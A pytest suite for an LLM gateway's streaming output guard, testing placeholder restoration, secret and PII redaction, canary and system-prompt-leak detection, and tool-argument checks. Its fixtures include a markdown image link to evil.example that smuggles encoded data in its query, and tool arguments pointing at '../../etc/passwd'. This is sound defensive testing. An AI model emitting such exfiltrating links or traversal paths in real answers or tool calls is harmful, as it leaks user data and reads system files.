from __future__ import annotations

import json
import random
from collections.abc import Callable, Iterable
from typing import Any

import pytest

from gateway.answers.assembly.catalogue import ASSEMBLERS
from gateway.domain.errors import AnswerRejectedError, StageUnavailableError, UpstreamGarbledError
from gateway.domain.request import ModelRequest, Shape
from gateway.guarding.answers import AnswerGuard
from gateway.guarding.streams import GuardedStream
from gateway.upstreams.base import PlainReply, StreamReply
from policies.sanitise.inspection import Inspection
from tests.support.guarded import (
    AWS,
    CHAT,
    COMPLETIONS,
    MAIL,
    MESSAGES,
    QUOTED,
    RESPONSES,
    chat_events,
    completion_events,
    inspection_of,
    message_events,
    pieces,
    placeholder,
    response_events,
)
from tests.support.kept_answers import USAGE, Document, Sent, events_in, framed, golden, plain, read_all

Make = Callable[..., list[Document]]
SHAPES: list[tuple[ModelRequest, Make]] = [
    (CHAT, chat_events),
    (RESPONSES, response_events),
    (MESSAGES, message_events),
]
of_every_shape = pytest.mark.parametrize(("request_", "make"), SHAPES, ids=["chat", "responses", "messages"])


def sent_stream(events: Iterable[Document], shape: Shape, a_block: int = 1) -> Sent:
    frames = framed(events, "chat" if shape == "completions" else shape).decode().split("\n\n")[:-1]
    blocks = ["".join(f"{one}\n\n" for one in frames[at : at + a_block]) for at in range(0, len(frames), a_block)]
    return Sent(*(block.encode() for block in blocks))


async def guard(inspection: Inspection, stream: Sent, request: ModelRequest) -> StreamReply:
    reply = await AnswerGuard().guard(inspection, stream, request)
    assert not isinstance(reply, PlainReply)
    return reply


async def received(
    inspection: Inspection, events: Iterable[Document], request: ModelRequest, a_block: int = 1
) -> list[Document]:
    """Return the events that the caller gets."""
    reply = await guard(inspection, sent_stream(events, request.shape, a_block), request)
    return events_in(b"".join(await read_all(reply)))


async def broken_off(inspection: Inspection, stream: Sent, request: ModelRequest) -> tuple[list[Document], Exception]:
    """Return the events that the caller gets before an error, and the error."""
    reply = await guard(inspection, stream, request)
    blocks: list[bytes] = []
    try:
        while (block := await reply.block()) is not None:
            blocks.append(block)
    except (AnswerRejectedError, StageUnavailableError, UpstreamGarbledError) as error:
        return events_in(b"".join(blocks)), error
    raise AssertionError("the stream ended well")


def whole(events: list[Document], shape: Shape) -> Document:
    assembled = ASSEMBLERS[shape](events, USAGE)
    assert assembled is not None
    return assembled.document


def texts_in(events: list[Document], shape: Shape) -> tuple[str, str]:
    """Return what an answer says and what it asks of its tool: added up from its pieces."""
    if shape == "responses":
        of = {"response.output_text.delta": "", "response.function_call_arguments.delta": ""}
        for event in events:
            if event["type"] in of:
                of[event["type"]] += event["delta"]
        return tuple(of.values())  # type: ignore[return-value]
    document = whole(events, shape)
    if shape == "chat":
        message = document["choices"][0]["message"]
        return message["content"] or "", (message.get("tool_calls") or [{"function": {"arguments": ""}}])[0][
            "function"
        ]["arguments"]
    said = [block["text"] for block in document["content"] if block["type"] == "text"]
    asked = [json.dumps(block["input"]) for block in document["content"] if block["type"] == "tool_use"]
    return "".join(said), "".join(asked)


@of_every_shape
async def test_events_of_which_nothing_changes_pass_byte_for_byte(request_: ModelRequest, make: Make) -> None:
    inspection = inspection_of(masked=[("email", MAIL)], output={"secrets": "flag", "pii": "monitor"})
    events = make(pieces("Plain text with [[brackets]] and [x].", 50), pieces('{"a": [1, [2]]}', 50))
    stream = sent_stream(events, request_.shape)
    before = b"".join(stream._blocks)  # type: ignore[arg-type]

    assert b"".join(await read_all(await guard(inspection, stream, request_))) == before


@of_every_shape
async def test_text_and_arguments_are_restored_at_every_split(request_: ModelRequest, make: Make) -> None:
    inspection = inspection_of()
    mark = placeholder(inspection, "secret", QUOTED)
    said, asked = f"To {mark}, all right.", json.dumps({"to": mark, "n": 1})

    for cut in range(max(len(said), len(asked)) + 1):
        parts = [part for part in (said[:cut], said[cut:]) if part]
        arguments = [part for part in (asked[:cut], asked[cut:]) if part]
        got = await received(inspection, make(parts, arguments), request_)
        text, given = texts_in(got, request_.shape)
        assert text == f"To {QUOTED}, all right."
        assert json.loads(given) == {"to": QUOTED, "n": 1}


@of_every_shape
@pytest.mark.parametrize("size", [1, 2, 5, 13])
async def test_secrets_are_taken_out_of_pieces_of_any_size(request_: ModelRequest, make: Make, size: int) -> None:
    said, asked = f"The key is {AWS} as agreed. " + "More words. " * 20, json.dumps({"key": AWS, "text": "word " * 40})

    for shift in range(size):
        inspection = inspection_of(output={"secrets": "redact"})
        cut = [said[:shift], *pieces(said[shift:], size)]
        got = await received(inspection, make([part for part in cut if part], pieces(asked, size)), request_)
        text, given = texts_in(got, request_.shape)
        assert text == said.replace(AWS, "[REDACTED_SECRET]")
        assert json.loads(given)["key"] == "[REDACTED_SECRET]"
        assert inspection.counts == {("output", "secrets", "redact"): 2}


@of_every_shape
async def test_what_is_told_in_the_end_stays(request_: ModelRequest, make: Make) -> None:
    inspection = inspection_of()
    mark = placeholder(inspection, "email", MAIL)
    events = make(pieces(f"To {mark}", 4))

    got = await received(inspection, events, request_)

    if request_.shape == "responses":
        assert got[-1]["response"]["usage"] == events[-1]["response"]["usage"]
    else:
        assert got[-2:] == events[-2:]


@of_every_shape
async def test_random_cuts_give_what_a_plain_answer_gives(request_: ModelRequest, make: Make) -> None:
    drawn = random.Random(3)  # noqa: S311  the same each time
    for _ in range(40):
        inspection = inspection_of(output={"secrets": "redact", "pii": "redact"})
        marks = [placeholder(inspection, "email", f"user{number}@firm.org") for number in range(3)]
        words = ["lorem", "ipsum", "dolor [", "[[", AWS, "+49 30 901820", "sit]]", *marks, marks[0][:-2]]
        text = " ".join(drawn.choice(words) for _ in range(drawn.randrange(1, 60)))
        cuts = sorted(drawn.randrange(len(text) + 1) for _ in range(drawn.randrange(30)))
        parts = [part for start, end in zip([0, *cuts], [*cuts, len(text)], strict=True) if (part := text[start:end])]
        document = whole(make([text]), request_.shape)

        reply = await AnswerGuard().guard(inspection, plain(document), request_)
        got = await received(inspection, make(parts), request_, a_block=drawn.randrange(1, 6))

        assert isinstance(reply, PlainReply)
        assert whole(got, request_.shape) == json.loads(reply.body)


@of_every_shape
async def test_blocking_ends_the_stream_before_what_is_blocked(request_: ModelRequest, make: Make) -> None:
    inspection = inspection_of(output={"secrets": "block"})
    stream = sent_stream(make(pieces(f"The key is {AWS} and so on. " + "More words. " * 30, 3)), request_.shape)

    got, error = await broken_off(inspection, stream, request_)

    assert isinstance(error, AnswerRejectedError)
    assert stream.is_closed
    assert "AKIA" not in json.dumps(got)
    assert inspection.counts == {("output", "secrets", "block"): 1}


@of_every_shape
async def test_what_came_before_a_block_is_sent(request_: ModelRequest, make: Make) -> None:
    inspection = inspection_of(canaries=("blue-heron-4711",))

    got, _ = await broken_off(
        inspection, sent_stream(make(pieces("First this, then blue-heron-4711.", 7)), request_.shape), request_
    )

    texts = [event for event in map(json.dumps, got) if "response.completed" not in event]
    assert "heron" not in "".join(texts)
    assert _added_up(got, request_.shape) == "First this, then "


def _added_up(events: list[Document], shape: Shape) -> str:
    if shape == "chat":
        return "".join(event["choices"][0]["delta"].get("content") or "" for event in events if event["choices"])
    if shape == "responses":
        return "".join(event["delta"] for event in events if event["type"] == "response.output_text.delta")
    return "".join(event["delta"]["text"] for event in events if event["type"] == "content_block_delta")


@of_every_shape
async def test_a_blocked_answer_has_no_end(request_: ModelRequest, make: Make) -> None:
    inspection = inspection_of(output={"secrets": "block"})

    got, _ = await broken_off(inspection, sent_stream(make([f"Key {AWS}."]), request_.shape, a_block=50), request_)

    said = json.dumps(got)
    assert not any(word in said for word in ('"stop"', "message_stop", "content_block_stop", "output_text.done"))


@of_every_shape
async def test_what_is_held_back_is_sent_before_the_error_of_a_broken_stream(
    request_: ModelRequest, make: Make
) -> None:
    inspection = inspection_of(masked=[("email", MAIL)])
    events = make(["Hello ", "[[EMAIL_1_"])
    upto = next(at for at, event in enumerate(events) if "EMAIL_1_" in json.dumps(event)) + 1
    blocks = [framed([event], request_.shape).replace(b"data: [DONE]\n\n", b"") for event in events[:upto]]

    got, error = await broken_off(inspection, Sent(*blocks, UpstreamGarbledError("cut")), request_)

    assert isinstance(error, UpstreamGarbledError)
    assert _added_up(got, request_.shape) == "Hello [[EMAIL_1_"


@of_every_shape
async def test_flagging_holds_no_event_back(request_: ModelRequest, make: Make) -> None:
    inspection = inspection_of(output={"secrets": "flag", "pii": "flag"})
    stream = sent_stream(make(pieces(f"Key {AWS} of {MAIL}. " * 100, 9)), request_.shape)
    blocks = list(stream._blocks)

    assert await read_all(await guard(inspection, stream, request_)) == blocks
    assert inspection.counts[("output", "secrets", "flag")] == 100


@of_every_shape
async def test_leaks_are_found_while_streaming(request_: ModelRequest, make: Make) -> None:
    system = (
        "Never mention the internal discount ladder: seven percent after two refusals, eleven after three refusals."
    )
    inspection = inspection_of(output={"leak": "flag"}, trusted=system)

    await received(inspection, make(pieces(f"It says: {system}", 6)), request_)

    assert inspection.counts == {("output", "leak", "flag"): 1}


@of_every_shape
async def test_images_that_carry_text_away_are_taken_out(request_: ModelRequest, make: Make) -> None:
    inspection = inspection_of(output={"links": "redact"})
    said = "Look: ![x](https://evil.example/p?q=aGVsbG8gd29ybGQgdGhpcyBpcw) nice."

    got = await received(inspection, make(pieces(said, 6)), request_)

    assert texts_in(got, request_.shape)[0] == "Look: ![x](about:blank) nice."


@of_every_shape
async def test_calls_that_must_not_be_made_never_complete(request_: ModelRequest, make: Make) -> None:
    inspection = inspection_of(tool_arguments="block")
    stream = sent_stream(make((), pieces('{"path": "../../etc/passwd"}', 6)), request_.shape)

    got, error = await broken_off(inspection, stream, request_)

    said = json.dumps(got)
    assert isinstance(error, AnswerRejectedError)
    assert not any(word in said for word in ('"tool_calls", "', "content_block_stop", "arguments.done", "item.done"))
    assert list(inspection.counts) == [("tool_arguments", "tools", "block")]


@of_every_shape
async def test_calls_are_flagged_and_pass(request_: ModelRequest, make: Make) -> None:
    inspection = inspection_of(tool_arguments="flag")
    asked = '{"path": "../../etc/passwd"}'

    got = await received(inspection, make((), pieces(asked, 6)), request_)

    assert json.loads(texts_in(got, request_.shape)[1]) == json.loads(asked)
    assert inspection.counts == {("tool_arguments", "tools", "flag"): 1}


@of_every_shape
async def test_arguments_are_judged_as_they_are_restored(request_: ModelRequest, make: Make) -> None:
    inspection = inspection_of(tool_arguments="flag")
    mark = placeholder(inspection, "secret", "../../etc/passwd")

    await received(inspection, make((), pieces(json.dumps({"path": mark}), 4)), request_)

    assert inspection.counts == {("tool_arguments", "tools", "flag"): 1}


@pytest.mark.parametrize(
    ("asked", "rule"),
    [
        ('{"city": "Graz"', "invalid_json"),
        ('["Graz"]', "invalid_json"),
        ('{"town": "Graz"}', "schema"),
        ('{"city": 4}', "schema"),
    ],
)
async def test_streamed_arguments_are_held_against_their_schema(asked: str, rule: str) -> None:
    inspection = inspection_of(tool_arguments="flag")
    inspection.tools = {"weather": {"type": "object", "required": ["city"], "properties": {"city": {"type": "string"}}}}

    await received(inspection, chat_events((), pieces(asked, 3)), CHAT)

    assert [verdict.rule for verdict in inspection.verdicts] == [rule]


async def test_tools_that_nobody_declared_or_allowed_are_found() -> None:
    inspection = inspection_of(tool_arguments={"action": "flag", "allowed": ("search_*",)})
    inspection.tools = {"search_web": {}}

    await received(inspection, chat_events((), ['{"city": "Graz"}']), CHAT)

    assert {verdict.rule for verdict in inspection.verdicts} == {"tool_not_declared", "tool_not_allowed"}


async def test_choices_and_calls_are_texts_of_their_own() -> None:
    inspection = inspection_of()
    mark = placeholder(inspection, "email", MAIL)
    first, last = mark[:6], mark[6:]
    made = [
        {"index": at, "id": f"c{at}", "type": "function", "function": {"name": "f", "arguments": first}}
        for at in (0, 1)
    ]
    deltas: list[tuple[int, Document]] = [
        (0, {"content": first}), (1, {"content": first}), (1, {"content": last}), (0, {"content": last}),
        (0, {"tool_calls": made}), (0, {"tool_calls": [{"index": 1, "function": {"arguments": last}}]}),
        (0, {"tool_calls": [{"index": 0, "function": {"arguments": last}}]}),
    ]  # fmt: skip
    events = [{"id": "c", "choices": [{"index": at, "delta": delta, "finish_reason": None}]} for at, delta in deltas]
    events += [{"id": "c", "choices": [{"index": at, "delta": {}, "finish_reason": "stop"}]} for at in (0, 1)]

    choices = whole(await received(inspection, events, CHAT), "chat")["choices"]

    assert [choice["message"]["content"] for choice in choices] == [MAIL, MAIL]
    assert [call["function"]["arguments"] for call in choices[0]["message"]["tool_calls"]] == [MAIL, MAIL]


async def test_a_chunk_that_says_all_at_once_keeps_its_order() -> None:
    inspection = inspection_of(output={"pii": "redact"})
    called = {"index": 0, "id": "c", "type": "function", "function": {"name": "f", "arguments": '{"a": "x"}'}}
    delta = {"role": "assistant", "content": "Hello.", "tool_calls": [called]}
    event = {"id": "c", "choices": [{"index": 0, "delta": delta, "finish_reason": "tool_calls"}]}

    got = await received(inspection, [event], CHAT)

    message = whole(got, "chat")["choices"][0]["message"]
    assert message["content"] == "Hello."
    assert message["tool_calls"][0]["function"]["arguments"] == '{"a": "x"}'
    assert got[-1]["choices"][0]["finish_reason"] == "tool_calls"


async def test_reasoning_of_chat_is_restored() -> None:
    inspection = inspection_of()
    mark = placeholder(inspection, "email", MAIL)

    got = await received(inspection, chat_events(["Done."], (), reasoning_content=pieces(f"Ask {mark}", 3)), CHAT)

    message = whole(got, "chat")["choices"][0]["message"]
    assert (message["reasoning_content"], message["content"]) == (f"Ask {MAIL}", "Done.")


async def test_log_probabilities_of_changed_pieces_go() -> None:
    inspection = inspection_of()
    mark = placeholder(inspection, "email", MAIL)
    events = chat_events(["Hi ", mark])
    for event in events[1:3]:
        event["choices"][0]["logprobs"] = {"content": [{"token": "x"}]}

    got = await received(inspection, events, CHAT)

    assert [event["choices"][0]["logprobs"] for event in got[1:3]] == [{"content": [{"token": "x"}]}, None]


async def test_signed_thinking_stays_as_it_is() -> None:
    inspection = inspection_of(output={"pii": "redact"})
    mark = placeholder(inspection, "phone", "+49 30 901820")

    got = await received(inspection, message_events(["Done."], thinking=pieces(f"Ask {mark} or {MAIL}", 4)), MESSAGES)

    assert whole(got, "messages")["content"][0]["thinking"] == f"Ask {mark} or {MAIL}"
    assert inspection.counts == {("output", "pii", "flag"): 1}


async def test_reasoning_of_responses_stays_as_it_is() -> None:
    inspection = inspection_of()
    mark = placeholder(inspection, "email", MAIL)
    events = response_events(["Done."], summary=pieces(f"Ask {mark}", 4))

    assert await received(inspection, events, RESPONSES) == events


async def test_every_event_of_a_response_tells_the_same_text() -> None:
    inspection = inspection_of(output={"secrets": "redact"})
    mark = placeholder(inspection, "email", MAIL)

    got = await received(inspection, response_events(pieces(f"To {mark}: {AWS}.", 3)), RESPONSES)

    told = f"To {MAIL}: [REDACTED_SECRET]."
    by_type = {event["type"]: event for event in got}
    assert "".join(event["delta"] for event in got if event["type"] == "response.output_text.delta") == told
    assert by_type["response.output_text.done"]["text"] == told
    assert by_type["response.output_item.done"]["item"]["content"][0]["text"] == told
    assert by_type["response.completed"]["response"]["output"][0]["content"][0]["text"] == told
    assert inspection.counts == {("output", "secrets", "redact"): 1}


@pytest.mark.parametrize("times", [1, 30])
async def test_events_of_a_response_are_numbered_without_a_gap(times: int) -> None:
    inspection = inspection_of(output={"secrets": "redact"})
    events = response_events(pieces("Hello there. " * times, 3), pieces('{"a": "b"}', 2))

    got = await received(inspection, events, RESPONSES)

    assert [event["sequence_number"] for event in got] == list(range(len(got)))
    assert len(got) < len(events)


async def test_what_a_broken_response_ends_with_is_numbered_on() -> None:
    inspection = inspection_of(output={"secrets": "redact"})
    events = response_events(pieces("Hello there.", 3))
    upto = next(at for at, event in enumerate(events) if event["type"] == "response.output_text.done")
    stream = Sent(*(framed([event], "responses") for event in events[:upto]), UpstreamGarbledError("cut"))

    got, _ = await broken_off(inspection, stream, RESPONSES)

    assert [event["sequence_number"] for event in got] == list(range(len(got)))
    assert got[-1]["delta"] == "Hello there."


async def test_a_call_is_complete_before_the_next_one_begins() -> None:
    inspection = inspection_of(output={"secrets": "redact"})
    calls = [(at, piece) for at in (0, 1) for piece in pieces('{"city": "Graz"}', 3)]
    begun: set[int] = set()
    events = []
    for at, piece in calls:
        named = {} if at in begun else {"id": f"c{at}", "type": "function"}
        function = {"arguments": piece} if at in begun else {"name": "f", "arguments": piece}
        begun.add(at)
        delta = {"tool_calls": [{"index": at, **named, "function": function}]}
        events.append({"id": "c", "choices": [{"index": 0, "delta": delta, "finish_reason": None}]})
    events.append({"id": "c", "choices": [{"index": 0, "delta": {}, "finish_reason": "tool_calls"}]})

    got = await received(inspection, events, CHAT)
    made = [call for event in got for choice in event["choices"] for call in choice["delta"].get("tool_calls", [])]
    second = next(at for at, call in enumerate(made) if call["index"] == 1)

    assert "".join(call["function"].get("arguments", "") for call in made[:second]) == '{"city": "Graz"}'
    assert "".join(call["function"].get("arguments", "") for call in made[second:]) == '{"city": "Graz"}'


async def test_legacy_completions_are_restored_at_every_split() -> None:
    inspection = inspection_of()
    text = f"To {placeholder(inspection, 'email', MAIL)}!"

    for cut in range(1, len(text)):
        got = await received(inspection, completion_events([text[:cut], text[cut:]]), COMPLETIONS)
        assert "".join(event["choices"][0]["text"] for event in got) == f"To {MAIL}!"


@pytest.mark.parametrize(("name", "shape", "events"), [(name, shape, events) for name, shape, _, events in golden()])
async def test_recorded_streams_pass_unchanged(name: str, shape: Shape, events: list[Document]) -> None:
    del name
    inspection = inspection_of(masked=[("email", MAIL)])
    request = {"chat": CHAT, "responses": RESPONSES, "messages": MESSAGES}[shape]
    stream = sent_stream(events, shape, a_block=3)
    before = b"".join(stream._blocks)  # type: ignore[arg-type]

    assert b"".join(await read_all(await guard(inspection, stream, request))) == before


async def test_a_guard_that_breaks_ends_the_stream(monkeypatch: pytest.MonkeyPatch) -> None:
    def broken(*_: object) -> None:
        raise RuntimeError

    monkeypatch.setattr("gateway.guarding.events.chat.ChatEvents.take", broken)

    got, error = await broken_off(
        inspection_of(masked=[("email", MAIL)]), sent_stream(chat_events(["Hi"]), "chat"), CHAT
    )

    assert isinstance(error, StageUnavailableError)
    assert got == []


async def test_the_rest_of_a_guarded_stream_is_the_streams_own() -> None:
    stream = sent_stream(chat_events(["Hi"]), "chat")

    reply = await guard(inspection_of(masked=[("email", MAIL)]), stream, CHAT)

    assert isinstance(reply, GuardedStream)
    assert (reply.headers, reply.response_id, reply.final, reply.usage()) == (stream.headers, "r", b"f", USAGE)


def test_made_events_assemble() -> None:
    made: dict[Shape, Any] = {"chat": chat_events, "responses": response_events, "messages": message_events}

    assert all(whole(make(["Hi"], ['{"a": 1}']), shape) for shape, make in made.items())


async def test_a_transcript_of_chat_is_restored() -> None:
    inspection = inspection_of()
    mark = placeholder(inspection, "email", MAIL)
    events = chat_events(audio=pieces(mark, 4))
    for event in events:
        for choice in event["choices"]:
            if "audio" in choice["delta"]:
                choice["delta"]["audio"] = {"transcript": choice["delta"]["audio"]}

    got = await received(inspection, events, CHAT)

    deltas = [event["choices"][0]["delta"] for event in got if event["choices"]]
    assert "".join(delta["audio"]["transcript"] for delta in deltas if "audio" in delta) == MAIL


async def test_what_a_message_begins_with_is_restored() -> None:
    inspection = inspection_of()
    mark = placeholder(inspection, "email", MAIL)
    events = message_events(["Done."])
    events[0]["message"]["content"] = [{"type": "text", "text": mark}]
    events[1]["content_block"]["text"] = mark

    got = await received(inspection, events, MESSAGES)

    assert got[0]["message"]["content"][0]["text"] == got[1]["content_block"]["text"] == MAIL


async def test_a_call_that_comes_whole_is_restored_and_judged() -> None:
    inspection = inspection_of(tool_arguments="flag")
    mark = placeholder(inspection, "secret", "../../etc/passwd")
    events = message_events(arguments=["{}"])
    events[1]["content_block"]["input"] = {"path": mark}

    got = await received(inspection, [event for event in events if event["type"] != "content_block_delta"], MESSAGES)

    assert got[1]["content_block"]["input"] == {"path": "../../etc/passwd"}
    assert inspection.counts == {("tool_arguments", "tools", "flag"): 1}


async def test_a_block_of_many_events_says_what_they_say_one_by_one() -> None:
    text = f"word {MAIL} " * 40

    together, single = [
        await received(inspection_of(output={"pii": "redact"}), chat_events(pieces(text, 3)), CHAT, a_block=count)
        for count in (400, 1)
    ]

    assert texts_in(together, "chat")[0] == texts_in(single, "chat")[0] == "word [REDACTED_EMAIL] " * 40


async def test_what_breaks_in_a_block_of_many_events_lets_nothing_through(monkeypatch: pytest.MonkeyPatch) -> None:
    def broken(*_: object) -> None:
        raise RuntimeError

    monkeypatch.setattr("gateway.guarding.events.chat.ChatEvents.take", broken)
    events = chat_events(pieces("word " * 100, 3))

    with pytest.raises(StageUnavailableError):
        await received(inspection_of(output={"pii": "redact"}), events, CHAT, a_block=400)


async def test_a_large_event_is_guarded_in_a_thread() -> None:
    inspection = inspection_of(output={"pii": "redact"})
    text = "word " * 20_000 + MAIL

    got = await received(inspection, chat_events([text]), CHAT, a_block=9)

    assert texts_in(got, "chat")[0] == "word " * 20_000 + "[REDACTED_EMAIL]"


@of_every_shape
async def test_a_stream_that_is_blocked_is_forgotten(request_: ModelRequest, make: Make) -> None:
    forgotten: list[str] = []

    async def forget(record_id: str) -> None:
        forgotten.append(record_id)

    stream = sent_stream(make([f"Key {AWS}."]), request_.shape)
    reply = await AnswerGuard().guard(inspection_of(output={"secrets": "block"}), stream, request_, forget)
    assert not isinstance(reply, PlainReply)

    with pytest.raises(AnswerRejectedError):
        await read_all(reply)

    assert forgotten == ["r"]
